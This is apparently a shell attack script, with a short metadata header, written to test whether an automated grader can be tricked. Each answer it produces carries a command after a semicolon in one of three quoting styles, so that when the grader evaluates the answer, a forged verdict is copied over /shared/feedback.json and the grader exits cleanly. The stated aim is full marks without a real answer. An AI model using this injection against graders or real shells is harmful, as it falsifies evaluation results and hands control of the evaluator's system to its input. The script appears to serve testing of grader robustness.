# ---
# tries: Answers with commands after a `;`, which run in the grader's own shell where the answer is evaluated.
# place: instead
# gain: full marks without an answer
# helps: compare-outside
# needs: [functions]
# ---
echo "$attack_verdict" > /shared/.attack-verdict
attack_command='cp /shared/.attack-verdict /shared/feedback.json; exit 0'
# One call after the other: for answers without quotes, in single quotes, in double quotes.
echo "0; $attack_command" > /shared/.attack-answer-1
echo "'; $attack_command; '" > /shared/.attack-answer-2
echo "\"; $attack_command; \"" > /shared/.attack-answer-0
attack_functions 'attack_call=$(cat /shared/.attack-call 2> /dev/null)
attack_call=$(((${attack_call:-0} + 1) % 3))
echo $attack_call > /shared/.attack-call
cat /shared/.attack-answer-$attack_call'
